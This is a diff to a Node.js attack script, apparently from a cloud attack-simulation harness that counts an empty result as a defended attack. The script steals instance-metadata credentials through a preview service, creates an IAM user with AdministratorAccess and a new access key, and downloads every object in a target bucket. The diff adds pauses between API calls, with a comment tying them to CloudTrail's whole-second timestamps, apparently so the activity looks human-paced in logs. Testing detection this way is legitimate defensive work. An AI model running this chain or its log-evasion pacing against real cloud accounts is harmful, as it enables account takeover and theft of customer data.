@@ -1,8 +1,9 @@
 // The attacker. Asks the preview service for the instance metadata service's credentials, reads them from the preview, and
 // uses them from here, outside: a new administrator with a key of its own, which then downloads the customers' data.
-// Settings in ATTACK (JSON): preview, metadata, role, aws {endpoint, region, bucket}, address. Prints one JSON line per
-// step to stdout. Exits 0 also when nothing came: that is a defended attack.
+// Settings in ATTACK (JSON): preview, metadata, role, aws {endpoint, region, bucket}, address, paceMs (between two calls).
+// Prints one JSON line per step to stdout. Exits 0 also when nothing came: that is a defended attack.
 import { Agent, request } from 'node:http';
+import { setTimeout as delay } from 'node:timers/promises';
 import { AttachUserPolicyCommand, CreateAccessKeyCommand, CreateUserCommand, IAMClient } from '@aws-sdk/client-iam';
 import { GetObjectCommand, ListBucketsCommand, ListObjectsV2Command, S3Client } from '@aws-sdk/client-s3';
 import { GetCallerIdentityCommand, STSClient } from '@aws-sdk/client-sts';
@@ -29,12 +30,16 @@ async function stealCredentials() {
 }
 
 async function becomeAdministrator(credentials) {
+  await pause();
   const { Arn } = await new STSClient(client(credentials)).send(new GetCallerIdentityCommand({}));
   say('aws', { call: 'GetCallerIdentity', Arn });
   const iam = new IAMClient(client(credentials));
+  await pause();
   await iam.send(new CreateUserCommand({ UserName: newUser }));
   const PolicyArn = 'arn:aws:iam::aws:policy/AdministratorAccess';
+  await pause();
   await iam.send(new AttachUserPolicyCommand({ UserName: newUser, PolicyArn }));
+  await pause();
   const { AccessKey } = await iam.send(new CreateAccessKeyCommand({ UserName: newUser }));
   say('aws', { call: 'CreateUser, AttachUserPolicy, CreateAccessKey', accessKeyId: AccessKey.AccessKeyId });
   return { accessKeyId: AccessKey.AccessKeyId, secretAccessKey: AccessKey.SecretAccessKey };
@@ -42,13 +47,21 @@ async function becomeAdministrator(credentials) {
 
 async function useFrom(credentials) {
   const s3 = new S3Client({ ...client(credentials), forcePathStyle: true });
+  await pause();
   await s3.send(new ListBucketsCommand({}));
+  await pause();
   const { Contents = [] } = await s3.send(new ListObjectsV2Command({ Bucket: settings.aws.bucket }));
+  await pause();
   for (const { Key } of Contents) {
     const { Body } = await s3.send(new GetObjectCommand({ Bucket: settings.aws.bucket, Key }));
     await Body.transformToByteArray();
   }
   say('aws', { call: 'ListBuckets, ListObjects, GetObject', objects: Contents.length });
+}
+
+/** People type slower than CloudTrail's clock ticks, which knows whole seconds only. */
+function pause() {
+  return delay(settings.paceMs ?? 0);
 }
 
 function client(credentials) {
